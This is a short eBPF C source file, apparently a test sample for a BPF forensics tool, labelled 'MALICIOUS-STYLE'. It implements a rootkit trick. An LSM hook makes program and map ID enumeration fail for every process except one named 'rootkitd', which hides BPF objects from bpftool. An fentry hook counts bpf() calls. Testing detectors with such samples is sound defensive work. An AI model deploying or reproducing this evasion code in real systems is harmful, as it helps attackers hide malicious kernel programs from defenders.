// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE, a rootkit hiding from BPF forensics through the hooks a
 * defender would use, not the syscall tracepoint (see antiforensics.bpf.c):
 *   deny_bpf_enum   lsm/bpf: makes BPF_PROG_GET_NEXT_ID and
 *                   BPF_MAP_GET_NEXT_ID fail with EPERM for everyone but the
 *                   rootkit's own loader, so bpftool lists nothing;
 *   spy_bpf_calls   fentry on the bpf() syscall entry (__x64_sys_bpf):
 *                   counts bpf() calls per command.
 * Neither loads on this host: LSM and fentry programs fail with EPERM. They
 * compile and parse, and load on kernels with the BPF LSM and fentry.
 */
#include "sentry_test.h"

char LICENSE[] SEC("license") = "GPL";

#define EPERM 1

/* The rootkit's loader, set before loading. */
const volatile char owner_comm[TASK_COMM_LEN] = "rootkitd";

struct {
	__uint(type, BPF_MAP_TYPE_PERCPU_ARRAY);
	__uint(max_entries, 64);
	__type(key, u32);
	__type(value, u64);
} bpf_cmd_counts SEC(".maps");

SEC("lsm/bpf")
int BPF_PROG(deny_bpf_enum, int cmd, union bpf_attr *attr, unsigned int size)
{
	char comm[TASK_COMM_LEN];
	int i;

	if (cmd != BPF_PROG_GET_NEXT_ID && cmd != BPF_MAP_GET_NEXT_ID)
		return 0;
	bpf_get_current_comm(comm, sizeof(comm));
	for (i = 0; i < TASK_COMM_LEN; i++) {
		if (comm[i] != owner_comm[i])
			return -EPERM;
		if (comm[i] == 0)
			break;
	}
	return 0;
}

/*
 * The kernel's pt_regs names its fields di, si, ...; the uapi one included
 * here says rdi. The ___kern flavour makes CO-RE match the kernel's type.
 */
struct pt_regs___kern {
	unsigned long di;
} __attribute__((preserve_access_index));

SEC("fentry/__x64_sys_bpf")
int BPF_PROG(spy_bpf_calls, struct pt_regs *regs)
{
	u32 cmd = (u32)BPF_CORE_READ((struct pt_regs___kern *)regs, di);
	u64 *n;

	if (cmd >= 64)
		return 0;
	n = bpf_map_lookup_elem(&bpf_cmd_counts, &cmd);
	if (n)
		*n += 1;
	return 0;
}
